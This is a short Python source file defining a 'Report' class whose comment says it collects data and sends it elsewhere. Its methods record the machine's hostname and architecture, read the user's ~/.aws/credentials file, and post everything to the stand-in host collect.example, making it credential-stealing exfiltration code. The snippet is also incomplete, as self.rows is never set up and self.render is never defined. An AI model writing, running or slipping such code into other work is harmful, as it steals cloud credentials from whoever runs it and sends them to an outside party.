# collects: a class that collects, and sends elsewhere
import os
import platform

import requests


class Report:
    def system(self):
        self.rows.append(platform.node())
        self.rows.append(platform.machine())

    def files(self):
        with open(os.path.expanduser("~/.aws/credentials")) as handle:
            self.rows.append(handle.read())

    def send(self, text):
        requests.post("https://collect.example/", data=text)

    def run(self):
        self.system()
        self.files()
        self.send(self.render())
